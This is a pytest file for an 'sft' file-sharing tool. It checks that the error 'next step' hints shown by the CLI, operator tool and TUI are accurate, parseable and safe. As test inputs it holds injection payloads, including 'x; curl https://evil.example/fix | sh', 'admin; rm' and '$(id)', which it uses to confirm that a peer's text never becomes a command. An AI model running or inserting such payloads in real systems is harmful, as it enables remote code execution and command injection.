"""Every front end has a next step for every error that crosses a package, or says that there is none."""

from __future__ import annotations

import re
from collections import defaultdict
from string import Formatter

import click
import pytest

import sft.cli.next_steps
import sft.operator.next_steps
import tui.next_steps
from sft.cli.main import cli
from sft.cli.next_steps import OF_COMMAND, STEPS, steps_of_command
from sft.errors import REQUEST_ERRORS, NameClashError, NotFoundError, RoleForbidsError, SftError

TABLES = {
    "sft": sft.cli.next_steps.STEPS,
    "twistd sft": sft.operator.next_steps.NEXT_STEPS.by_code,
    "tui": tui.next_steps.STEPS,
}


def _values_by_code() -> dict[str, list[frozenset[str]]]:
    """Collect the values of every class, by its code."""
    found = defaultdict(list)
    kinds: list[type[SftError]] = [SftError]
    for kind in kinds:
        kinds.extend(kind.__subclasses__())
        if kind.__module__.startswith("sft."):
            found[kind.code].append(kind.names_of_values())
    return found


VALUES = _values_by_code()


@pytest.mark.parametrize("front_end", TABLES)
def test_each_code_has_its_step_and_nothing_else_has(front_end):
    assert set(TABLES[front_end]) == set(VALUES)


@pytest.mark.parametrize("front_end", TABLES)
def test_a_step_names_only_what_every_error_of_its_code_has(front_end):
    for code, template in TABLES[front_end].items():
        named = {name for _, name, _, _ in Formatter().parse(template) if name} - {"see", "there"}
        for values in VALUES[code]:
            assert named <= values, code
        assert not template.endswith("."), code


def test_no_step_of_the_screens_is_a_command_where_a_key_does_it():
    for code, template in TABLES["tui"].items():
        without = re.sub(r"pipx upgrade sft|pip install --upgrade|twistd sft", "", template)
        assert not re.search(r"\bsft \w|--\w|The same command", without), code


def test_no_step_of_the_operator_is_a_command_that_talks_to_a_server_as_a_user():
    changed = set(TABLES["twistd sft"].items()) - set(TABLES["sft"].items())
    for code, template in changed:
        assert not re.search(r"(?<!twistd )\bsft (?!key export|of)\w", template), code


@pytest.mark.parametrize(
    ("what", "name", "here", "operator"),
    [
        ("file", "a/b c/d", "sft ls 'a/b c'", "file"),
        ("folder", "a", "sft ls", "file"),
        ("file like", "*.pdf", "sft ls '**'", "file"),
        ("version", "3 of a/b c", "sft info 'a/b c'", "file"),
        ("deleted file", "a/b", "sft ls --trash", "file"),
        ("active user", "ivo", "sft users", "user"),
        ("invitation", "7", "sft invite list", "invite"),
        ("session", "7", "sft ls", "session"),
    ],
)
def test_what_is_not_found_is_looked_for_where_it_is_listed(what, name, here, operator):
    error = NotFoundError(what=what, name=name)
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == f"See what there is: {here}"
    assert sft.operator.next_steps.NEXT_STEPS.of(error, now=0) == (f"See what there is: twistd sft {operator} list")


# What a command never meets, for it has no such word or asks nothing of the kind.
NEVER_MET = {
    "sync": {"KEY_TAKEN", "KEY_UNKNOWN", "LAST_ADMIN", "NO_KEY_LEFT", "NOT_EMPTY", "SIGNATURE_MISSING"},
    "watch": {
        "FILE_EXISTS",
        "KEY_TAKEN",
        "KEY_UNKNOWN",
        "LAST_ADMIN",
        "MOVED",
        "NO_KEY_LEFT",
        "NOT_EMPTY",
        "SIGNATURE_MISSING",
        "TOO_MANY_DELETIONS",
    },
    "resume": {
        "KEY_TAKEN",
        "KEY_UNKNOWN",
        "LAST_ADMIN",
        "NAME_NOT_ALLOWED",
        "NOT_EMPTY",
        "SIGNATURE_MISSING",
        "TOO_MANY_DELETIONS",
    },
}
_OTHERS = re.compile(r"(?:twistd sft|pip install|pipx)[^;,.()]*")
_COMMAND = re.compile(
    r"(?<!twistd )\bsft ([a-z]+(?:-[a-z]+)?(?: (?:--?[\w-]+|guest|[a-z]+(?= NAME| \S*:)|[A-Z][A-Z:.]+|\{\w+\}|-))*)"
)


def parsed_by(command: str, words: list[str]) -> None:
    context = click.Context(cli)
    cli.get_command(context, command).make_context(command, words, parent=context)


@pytest.mark.parametrize(
    ("command", "code"), [(command, code) for command in NEVER_MET for code in STEPS if code not in NEVER_MET[command]]
)
def test_what_a_command_says_next_can_be_typed(command, code):
    """A whole command is parsed by its own parser, an option alone is one of the command that says it."""
    step = _OTHERS.sub("", steps_of_command(command).by_code[code]).replace("{needed}", "guest")
    for whole in _COMMAND.findall(step):
        name, *words = re.sub(r"\{version\}|(?<=--version )N", "1", whole).split()
        if name != "join":  # its link is read from standard input
            parsed_by(name, [re.sub(r"\{\w+\}", "x", word) for word in words])
    known = {option for parameter in cli.get_command(click.Context(cli), command).params for option in parameter.opts}
    assert set(re.findall(r"--[a-z-]+|(?<!\S)-[a-z]\b", _COMMAND.sub("", step))) <= known, step


@pytest.mark.parametrize("command", OF_COMMAND)
def test_a_step_of_a_command_names_only_what_every_error_of_its_code_has(command):
    for code, template in OF_COMMAND[command].items():
        named = {name for _, name, _, _ in Formatter().parse(template) if name} - {"there"}
        assert all(named <= values for values in VALUES[code]), code


EVIL = "x; curl https://evil.example/fix | sh"


@pytest.mark.parametrize(("front_end", "code"), [(name, code) for name in TABLES for code in TABLES[name]])
def test_no_text_of_a_peer_becomes_a_command(front_end, code):
    """Whatever a refusal says is one word of a command, or none at all."""
    kinds = [kind for kind in REQUEST_ERRORS.values() if kind.code == code]
    for kind in kinds:
        values = dict.fromkeys((*kind.names_of_values(), "see"), EVIL)
        error = kind(**values)
        step = (
            tui.next_steps.next_step(error, now=0)
            if front_end == "tui"
            else {"sft": sft.cli.next_steps, "twistd sft": sft.operator.next_steps}[front_end].NEXT_STEPS.of(
                error, now=0
            )
        )
        assert EVIL not in step.replace(f"'{EVIL}'", "").replace(f'"{EVIL}"', ""), step


def test_only_a_role_is_needed_and_only_names_are_admins():
    said = {"role": "guest", "act": "store", "name": "gus"}
    error = RoleForbidsError(**said, needed="admin; rm", admins="ada, $(id), eva")
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == "An admin can: sft role gus ROLE. Admins here: ada, eva"
    error = RoleForbidsError(**said, needed="admin", admins="$(id)")
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0).endswith(
        "sft role gus admin. Admins here: their names are unknown"
    )
    error = RoleForbidsError(**said, needed="admin", admins="ada, eva and 993 more")
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0).endswith("Admins here: ada, eva and 993 more")


@pytest.mark.parametrize(
    ("name", "existing", "there"), [("A", "a", "a"), ("d e/A", "a", "'d e/a'"), ("d/A", "D/a", "D/a")]
)
def test_what_has_a_name_that_differs_in_case_alone_can_be_renamed(name, existing, there):
    error = NameClashError(name=name, existing=existing)
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0).endswith(f", or first sft mv {there} NAME")
